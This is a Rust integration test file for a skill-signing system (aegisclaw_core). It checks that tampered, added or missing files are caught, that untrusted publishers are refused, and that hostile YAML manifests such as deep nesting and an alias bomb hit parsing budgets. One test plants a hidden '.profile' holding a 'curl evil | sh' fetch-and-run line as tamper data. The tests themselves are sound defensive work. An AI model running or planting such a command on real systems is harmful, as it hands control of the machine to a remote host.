//! Integration tests: skill. Key generation, signing a fixture skill, trusting the key and
//! verifying; every kind of tampering is caught and named; hostile manifests hit a budget.
#![expect(
    clippy::unwrap_used,
    reason = "test helpers outside `#[test]` functions fail the test by panicking"
)]

use aegisclaw_core::home::Home;
use aegisclaw_core::key::SigningKey;
use aegisclaw_core::skill::manifest::{MANIFEST_FILE, MAX_MANIFEST_BYTES, Manifest, ManifestError};
use aegisclaw_core::skill::registry::{self, SkillStatus};
use aegisclaw_core::skill::sign::{self, FileProblem, VerifyError};
use aegisclaw_core::trust::TrustStore;
use fs_err as fs;
use proptest::prelude::*;
use std::path::{Path, PathBuf};

const FIXTURE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/skills/hello");

/// A fresh copy of the fixture skill in a temp dir.
fn fixture_copy(root: &Path) -> PathBuf {
    let dest = root.join("hello");
    let mut stack = vec![(PathBuf::from(FIXTURE), dest.clone())];
    while let Some((from, to)) = stack.pop() {
        fs::create_dir_all(&to).unwrap();
        for entry in fs::read_dir(&from).unwrap() {
            let entry = entry.unwrap();
            let target = to.join(entry.file_name());
            if entry.file_type().unwrap().is_dir() {
                stack.push((entry.path(), target));
            } else {
                fs::copy(entry.path(), target).unwrap();
            }
        }
    }
    dest
}

/// A signed copy of the fixture and a trust store that trusts its signer.
fn signed(root: &Path) -> (PathBuf, TrustStore, SigningKey) {
    let dir = fixture_copy(root);
    let key = SigningKey::generate().unwrap();
    let trust_dir = root.join("trust");
    assert!(TrustStore::add(&trust_dir, &key.public()).unwrap());
    sign::sign_dir(&dir, &key).unwrap();
    (dir, TrustStore::load(&trust_dir).unwrap(), key)
}

#[test]
fn keygen_sign_trust_verify_and_install() {
    let temp = tempfile::tempdir().unwrap();
    let (dir, trust, key) = signed(temp.path());
    let verified = sign::verify_dir(&dir, &trust).unwrap();
    assert_eq!(verified.publisher, key.public().key_id());
    assert_eq!(verified.file_count, 2);
    assert_eq!(
        verified.manifest.files.keys().collect::<Vec<_>>(),
        ["lib/greeting.sh", "run.sh"]
    );
    // Signing again changes nothing but the (deterministic) rewrite.
    let again = sign::sign_dir(&dir, &key).unwrap();
    assert_eq!(again.manifest, verified.manifest);

    let home = Home::at(temp.path().join("home"));
    home.ensure_layout().unwrap();
    let installed = registry::install(&dir, &home, &trust, false).unwrap();
    assert_eq!(installed.status, SkillStatus::Verified);
    assert_eq!(installed.scopes, ["shell.exec:echo"]);
    assert_eq!(registry::list(&home, &trust).unwrap(), vec![installed]);
}

#[test]
fn signing_and_installing_change_nothing_until_written_or_committed() {
    let temp = tempfile::tempdir().unwrap();
    let (dir, trust, key) = signed(temp.path());
    // A prepared signature leaves the manifest as it was until `write`.
    fs::write(dir.join("run.sh"), "#!/bin/sh\necho changed\n").unwrap();
    let before = fs::read(dir.join("manifest.yaml")).unwrap();
    let pending = sign::prepare_signature(&dir, &key).unwrap();
    assert_eq!(pending.outcome().file_count, 2);
    assert_eq!(fs::read(dir.join("manifest.yaml")).unwrap(), before);
    assert!(
        sign::verify_dir(&dir, &trust).is_err(),
        "still the old signature"
    );
    pending.write().unwrap();
    sign::verify_dir(&dir, &trust).unwrap();
    // A staged install is invisible until `commit`, and dropping it leaves nothing behind.
    let home = Home::at(temp.path().join("home"));
    home.ensure_layout().unwrap();
    let staged = registry::stage(&dir, &home, &trust, false).unwrap();
    assert_eq!(staged.skill().name, "hello");
    assert!(registry::list(&home, &trust).unwrap().is_empty());
    drop(staged);
    assert_eq!(
        fs::read_dir(home.skills_dir()).unwrap().count(),
        0,
        "temp copy removed"
    );
    let installed = registry::stage(&dir, &home, &trust, false)
        .unwrap()
        .commit()
        .unwrap();
    assert_eq!(registry::list(&home, &trust).unwrap(), vec![installed]);
}

fn verify_error(dir: &Path, trust: &TrustStore) -> VerifyError {
    sign::verify_dir(dir, trust).unwrap_err()
}

#[test]
fn changed_file_is_named() {
    let temp = tempfile::tempdir().unwrap();
    let (dir, trust, _) = signed(temp.path());
    fs::write(dir.join("lib/greeting.sh"), "GREETING=pwned\n").unwrap();
    let error = verify_error(&dir, &trust);
    assert!(
        matches!(&error, VerifyError::FileChanged { path, others, .. }
            if path == "lib/greeting.sh" && others.is_empty()),
        "{error}"
    );
    assert!(error.to_string().contains("`lib/greeting.sh`"), "{error}");
}

#[test]
fn added_file_is_named_even_when_hidden() {
    let temp = tempfile::tempdir().unwrap();
    let (dir, trust, _) = signed(temp.path());
    fs::write(dir.join("lib/.profile"), "curl evil | sh\n").unwrap();
    let error = verify_error(&dir, &trust);
    assert!(
        matches!(&error, VerifyError::FileAdded { path, .. } if path == "lib/.profile"),
        "{error}"
    );
}

#[test]
fn missing_file_is_named() {
    let temp = tempfile::tempdir().unwrap();
    let (dir, trust, _) = signed(temp.path());
    fs::remove_file(dir.join("run.sh")).unwrap();
    let error = verify_error(&dir, &trust);
    assert!(
        matches!(&error, VerifyError::FileMissing { path, .. } if path == "run.sh"),
        "{error}"
    );
    assert_eq!(
        error.file_problems(),
        [FileProblem::Missing {
            path: "run.sh".into()
        }]
    );
}

#[test]
fn edited_description_breaks_the_signature() {
    let temp = tempfile::tempdir().unwrap();
    let (dir, trust, key) = signed(temp.path());
    let path = dir.join(MANIFEST_FILE);
    let text = fs::read_to_string(&path).unwrap();
    let edited = text.replace("Prints a greeting", "Prints a greeting, honest");
    assert_ne!(edited, text);
    fs::write(&path, edited).unwrap();
    let error = verify_error(&dir, &trust);
    assert!(
        matches!(&error, VerifyError::BadSignature { key_id, .. } if *key_id == key.public().key_id()),
        "{error}"
    );
}

#[test]
fn untrusted_publisher_is_refused() {
    let temp = tempfile::tempdir().unwrap();
    let (dir, _, key) = signed(temp.path());
    let other = TrustStore::empty().with_builtin([SigningKey::from_seed([9; 32]).public()]);
    let error = verify_error(&dir, &other);
    assert!(
        matches!(&error, VerifyError::Untrusted { key_id } if *key_id == key.public().key_id()),
        "{error}"
    );
    // Removing the key from the trust dir has the same effect.
    let trust_dir = temp.path().join("trust");
    assert!(TrustStore::remove(&trust_dir, &key.public().key_id()).unwrap());
    let error = verify_error(&dir, &TrustStore::load(&trust_dir).unwrap());
    assert!(matches!(error, VerifyError::Untrusted { .. }), "{error}");
}

fn parse(text: &str) -> ManifestError {
    Manifest::parse(text, Path::new("/skills/evil/manifest.yaml")).unwrap_err()
}

const HEAD: &str = "name: evil\nversion: 1.0.0\nentrypoint: [sh]\n";

#[test]
fn unknown_key_names_the_key_and_line() {
    let error = parse(&format!("{HEAD}\n# a comment\nnetwork: host\n"));
    let message = error.to_string();
    assert!(
        matches!(&error, ManifestError::Yaml { field: Some(field), line: Some(6), .. } if field == "network"),
        "{message}"
    );
    assert!(
        message.contains("/skills/evil/manifest.yaml")
            && message.contains("line 6")
            && message.contains("`network`"),
        "{message}"
    );
    let nested = parse(&format!(
        "{HEAD}resources:\n  memory_mb: 64\n  swap_mb: 64\n"
    ));
    let message = nested.to_string();
    assert!(
        message.contains("line 6") && message.contains("`resources.swap_mb`"),
        "{message}"
    );
}

#[test]
fn deep_nesting_hits_the_budget() {
    let depth = 200;
    let text = format!("{HEAD}scopes: {}{}\n", "[".repeat(depth), "]".repeat(depth));
    let error = parse(&text);
    let message = error.to_string();
    assert!(
        matches!(&error, ManifestError::Budget { breach, .. } if breach.starts_with("Depth")),
        "{message}"
    );
    assert!(message.contains("/skills/evil/manifest.yaml"), "{message}");
}

#[test]
fn alias_bomb_hits_the_budget() {
    let mut text =
        String::from("name: evil\nversion: 1.0.0\nentrypoint: &a0 [x, x, x, x, x, x, x, x]\n");
    for level in 1..8 {
        let aliases = vec![format!("*a{}", level - 1); 8].join(", ");
        text.push_str(&format!("d{level}: &a{level} [{aliases}]\n"));
    }
    let message = parse(&text).to_string();
    assert!(
        message.contains("budget") || message.contains("alias"),
        "{message}"
    );
}

#[test]
fn oversized_manifest_is_refused_before_parsing() {
    let text = format!(
        "{HEAD}description: \"{}\"\n",
        "a".repeat(MAX_MANIFEST_BYTES)
    );
    assert!(matches!(parse(&text), ManifestError::TooLarge { .. }));
    let temp = tempfile::tempdir().unwrap();
    let path = temp.path().join(MANIFEST_FILE);
    fs::write(&path, &text).unwrap();
    let error = Manifest::load(&path).unwrap_err();
    assert!(matches!(error, ManifestError::TooLarge { .. }), "{error}");
    assert!(error.to_string().contains(&path.display().to_string()));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(32))]

    /// Signing, then flipping any bit of any byte of any skill file, is always caught and names
    /// that file.
    #[test]
    fn any_flipped_byte_is_caught(file_pick in 0usize..2, position in any::<prop::sample::Index>(), bit in 0u8..8) {
        let temp = tempfile::tempdir().unwrap();
        let dir = fixture_copy(temp.path());
        let key = SigningKey::from_seed([7; 32]);
        sign::sign_dir(&dir, &key).unwrap();
        let trust = TrustStore::empty().with_builtin([key.public()]);
        let relative = ["lib/greeting.sh", "run.sh"][file_pick];
        let path = dir.join(relative);
        let mut bytes = fs::read(&path).unwrap();
        let index = position.index(bytes.len());
        bytes[index] ^= 1 << bit;
        fs::write(&path, bytes).unwrap();
        let error = sign::verify_dir(&dir, &trust).unwrap_err();
        prop_assert_eq!(error.file_problems(), vec![FileProblem::Changed { path: relative.to_string() }]);
    }
}
